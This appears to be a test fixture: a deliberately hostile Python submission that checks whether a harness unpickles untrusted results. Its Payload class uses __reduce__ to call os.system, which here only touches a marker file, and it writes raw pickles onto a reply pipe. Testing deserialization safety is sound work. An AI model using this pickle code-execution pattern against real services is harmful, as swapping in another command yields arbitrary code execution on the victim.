# ruff: noqa - a hostile submission, not the project's code
"""Pickle payloads: a result whose __reduce__ runs a command, and raw pickles written onto the reply pipe.
Anything that unpickles them creates __MARKER__."""
import os
import pickle
import sys

MARKER = "__MARKER__"


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {MARKER}",))


def composite(x, w, b):
    body = pickle.dumps({"status": "ok", "value": Payload()})
    os.write(int(sys.argv[2]), len(body).to_bytes(4, "big") + body)
    return Payload()


def local_derivatives(x, w, b):
    return [Payload()] * 6
